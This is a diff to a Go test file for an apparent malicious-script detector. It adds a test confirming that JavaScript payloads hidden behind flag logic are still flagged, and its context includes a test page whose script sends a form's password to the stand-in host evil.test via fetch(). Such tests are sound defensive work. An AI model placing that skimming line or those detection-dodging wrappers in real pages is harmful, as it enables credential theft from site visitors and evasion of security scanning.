@@ -31,6 +31,19 @@ func TestSilenced(t *testing.T) {
 	}
 }
 
+// A flag that is set where nobody knows may still be clear.
+func TestFlag(t *testing.T) {
+	for _, before := range []string{
+		"var w=false;for(var i=0;i<l.length;i++){if(l[i].id=='x'){w=true;}}if(w==false)",
+		"var w=false;if(l)w=true;else w=false;if(!w)",
+		"var w=true;if(l)w=false;if(w)",
+	} {
+		if got, want := webshell.Judge([]*webshell.Language{Language}, "x.js", []byte(before+"{"+evil+"}")).Verdict, webshell.Malicious; got != want {
+			t.Errorf("%s: got %q, want %q", before, got, want)
+		}
+	}
+}
+
 // Bytes that are no text make a page in lower case longer than it is.
 func TestOddBytes(t *testing.T) {
 	page := "<form action=/a><input type=password name=pw><script>fetch('https://evil.test/?'+document.forms[0]['pw'].value+'" + strings.Repeat("\x80", 150) + "')</script>"
